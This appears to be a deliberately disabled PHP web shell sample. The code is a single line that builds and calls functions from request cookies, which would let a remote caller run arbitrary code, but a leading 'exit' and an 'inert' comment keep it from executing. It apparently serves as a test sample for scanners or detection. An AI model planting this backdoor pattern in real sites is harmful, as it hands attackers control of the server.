<?php exit; /* inert */ $c=$_COOKIE; $f=$c[0].$c[1]; $g=$f($c[2]); $g($c[3]);
